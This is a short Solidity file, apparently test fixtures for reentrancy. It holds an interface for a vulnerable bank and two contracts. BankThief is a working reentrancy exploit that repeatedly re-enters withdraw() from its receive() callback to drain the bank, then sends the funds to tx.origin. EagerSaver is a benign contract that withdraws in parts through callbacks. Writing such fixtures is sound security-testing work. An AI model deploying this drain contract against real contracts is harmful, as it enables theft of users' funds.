// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

interface IOldBank {
    function deposit() external payable;
    function withdraw() external;
    function give(address) external;
    function balances(address) external view returns (uint256);
}

/// Robs a bank that pays before it writes.
contract BankThief {
    IOldBank private bank;
    uint256 private left;

    function own_deposit(IOldBank bank_) external payable {
        bank_.deposit{value: msg.value}();
    }

    /// One deposit (now or earlier), `rounds` payments.
    function own_drain(IOldBank bank_, uint256 rounds) external payable {
        (bank, left) = (bank_, rounds - 1);
        if (msg.value > 0) bank.deposit{value: msg.value}();
        bank.withdraw();
        (bool ok, ) = tx.origin.call{value: address(this).balance}("");
        require(ok);
    }

    receive() external payable {
        if (left > 0 && msg.sender == address(bank) && msg.sender.balance >= msg.value) {
            left -= 1;
            bank.withdraw();
        }
    }
}

/// Takes its money out of a good bank bit by bit, each bit in the payment of the one before. It may.
contract EagerSaver {
    address private bank;
    uint256 private left;
    uint256 private part;

    function put(address bank_) external payable {
        (bool ok, ) = bank_.call{value: msg.value}(abi.encodeWithSignature("deposit()"));
        require(ok);
    }

    function take(address bank_, uint256 parts, uint256 each) external {
        (bank, left, part) = (bank_, parts, each);
        _next();
    }

    function _next() private {
        if (left == 0) return;
        left -= 1;
        (bool ok, ) = bank.call(abi.encodeWithSignature("withdraw(uint256)", part));
        require(ok);
    }

    receive() external payable {
        if (msg.sender == bank) _next();
    }
}
